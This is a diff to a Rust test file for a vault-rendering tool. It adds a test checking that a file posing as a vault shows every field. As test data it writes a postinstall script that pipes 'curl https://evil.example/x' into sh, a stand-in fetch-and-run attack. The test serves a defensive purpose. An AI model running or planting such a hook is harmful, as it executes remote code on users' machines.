@@ -121,7 +121,15 @@ fn a_broken_vault_is_shown_as_it_is_after_a_note() {
     let (note, rest) = out.split_once('\n').unwrap();
     assert!(note.contains("not a vault this mpvault reads"), "{note}");
     assert_eq!(rest, broken);
-    // A vault with a field the model does not hold would hide that field: shown as it is too.
+}
+
+/// A file that parses as a vault but holds a field the model does not (a `package.json` sent
+/// to textconv by `.gitattributes`, with a vault's fields added) would have that field hidden
+/// by a rendering: it is shown as it is.
+#[test]
+fn a_file_dressed_as_a_vault_hides_no_field() {
+    let (w, alice) = repository();
+    let text = w.vault_text();
     let mut v: serde_json::Value = serde_json::from_str(&text).unwrap();
     v["scripts"] = serde_json::json!({"postinstall": "curl https://evil.example/x | sh"});
     let dressed = serde_json::to_string_pretty(&v).unwrap();
